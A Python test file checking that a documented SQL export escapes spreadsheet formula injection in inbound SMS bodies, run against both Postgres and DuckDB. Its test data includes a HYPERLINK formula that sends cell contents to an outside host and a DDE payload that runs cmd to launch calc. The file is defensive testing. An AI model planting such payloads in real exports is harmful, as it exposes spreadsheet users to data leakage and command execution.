"""What docs/privacy.md says to run."""

from __future__ import annotations

import re

import duckdb
import psycopg

from tests.e2e.checkout import ROOT

EXPORT = re.search(r"```sql\n(.*?)```", (ROOT / "docs" / "privacy.md").read_text(), re.DOTALL)[1]
TEXTS = {
    '=HYPERLINK("https://example.com?x="&A1)': '\'=HYPERLINK("https://example.com?x="&A1)',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2": "'-2",
    "@SUM(1)": "'@SUM(1)",
    "\t=1": "'\t=1",
    "\r=1": "'\r=1",
    "1 = 1, + @": "1 = 1, + @",
    "'=1": "'=1",
    "Null": "Null",
    "": "",
    "a\n=1": "a\n=1",
}


def test_no_text_is_a_formula_after_an_export(postgres):
    rows = list(enumerate(TEXTS))
    table = "create table clicksend.sms_inbound (message_id integer, body text)"
    with psycopg.connect(postgres) as database:
        database.execute("create schema clicksend")
        database.execute(table)
        database.cursor().executemany("insert into clicksend.sms_inbound values (%s, %s)", rows)
        assert [body for _, body in sorted(database.execute(EXPORT.encode()))] == list(TEXTS.values())
        database.rollback()
    with duckdb.connect() as duck:
        duck.execute("create schema clicksend")
        duck.execute(table)
        duck.executemany("insert into clicksend.sms_inbound values (?, ?)", rows)
        assert [body for _, body in sorted(duck.execute(EXPORT).fetchall())] == list(TEXTS.values())
